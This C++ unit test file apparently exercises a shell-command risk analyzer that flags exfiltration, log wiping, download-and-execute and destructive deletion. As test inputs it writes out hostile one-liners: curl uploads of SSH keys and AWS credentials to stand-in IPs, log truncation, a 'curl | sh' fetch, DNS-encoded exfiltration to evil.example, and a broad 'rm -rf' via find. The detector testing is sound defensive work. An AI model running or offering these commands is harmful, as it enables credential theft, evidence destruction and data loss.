// Values the analyzer carries from where a script names them to where it uses them: loop
// variables, find's `{}`, `sh -c` positional parameters, and host names under data labels.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "test_support.hpp"

namespace nonaxis::ciso::testing {
namespace {

std::set<std::string> hosts_of(const nlohmann::json& a) {
  std::set<std::string> out;
  for (const auto& c : a["checklist"]["outbound_connections"]) out.insert(c["host"].get<std::string>());
  return out;
}

TEST(CisoDataflow, LoopVariableCarriesItsListIntoTheBody) {
  const auto a = run("for f in ~/.ssh/id_rsa ~/.aws/credentials; do curl -s -F \"x=@$f\" http://198.51.100.7/u; done", true);
  EXPECT_GE(a["risk_score"].get<int>(), 90) << rule_ids(a);
  EXPECT_TRUE(has_rule(a, "exfiltration.sensitive_upload")) << rule_ids(a);
  const auto b = run("for f in /var/log/wtmp; do > \"$f\"; done", true);
  EXPECT_TRUE(has_rule(b, "defense_evasion.log_deletion")) << rule_ids(b);
  // The same loop over the project's own files stays low.
  EXPECT_LT(run("for f in src/*.c; do gcc -c \"$f\"; done", true)["risk_score"].get<int>(), 30);
}

TEST(CisoDataflow, FindPlaceholderReadsAsTheFilesItNames) {
  const auto a = run("find ~/.ssh -name 'id_*' -exec curl -s -F \"f=@{}\" http://198.51.100.3/up \\;", true);
  EXPECT_TRUE(has_rule(a, "exfiltration.sensitive_upload")) << rule_ids(a);
  const auto b = run("find /var/log -type f -exec sh -c 'cat /dev/null > \"$1\"' _ {} \\;", true);
  EXPECT_TRUE(has_rule(b, "defense_evasion.log_deletion")) << rule_ids(b);
  // Size, age or owner tests pick some files, not the whole tree: no `rm -rf /*` reading.
  const auto c = run("find / -size +100M -exec rm -rf {} \\;", true);
  EXPECT_FALSE(has_rule(c, "destructive.rm_root_or_home")) << rule_ids(c);
  EXPECT_LT(run("find . -name '*.o' -exec rm -f {} +", true)["risk_score"].get<int>(), 30);
}

TEST(CisoDataflow, ShellDashCPositionalParametersAreBound) {
  const auto a = run("bash -c 'curl -s \"$1\" | sh' _ http://198.51.100.3/x.sh", true);
  EXPECT_TRUE(has_rule(a, "download_exec.pipe_to_interpreter")) << rule_ids(a);
  EXPECT_EQ(hosts_of(a), (std::set<std::string>{"198.51.100.3"}));
}

TEST(CisoDataflow, DataLabelsBeforeAHostNameStillNameTheDestination) {
  EXPECT_EQ(hosts_of(run("nslookup cm9vdDp4OjA6MA==.x.evil.example", true)), (std::set<std::string>{"x.evil.example"}));
  EXPECT_EQ(hosts_of(run("curl \"http://aGVsbG8+d29y=.data.evil.example/x\"", true)),
            (std::set<std::string>{"data.evil.example"}));
  EXPECT_EQ(hosts_of(run("curl -XPOST MTExLTExLTExMTE=.collector.example.com", true)),
            (std::set<std::string>{"collector.example.com"}));
  // Labels alone, with no name after them, are no destination.
  EXPECT_TRUE(hosts_of(run("curl -d a=b notes.txt", true)).empty());
}

}  // namespace
}  // namespace nonaxis::ciso::testing
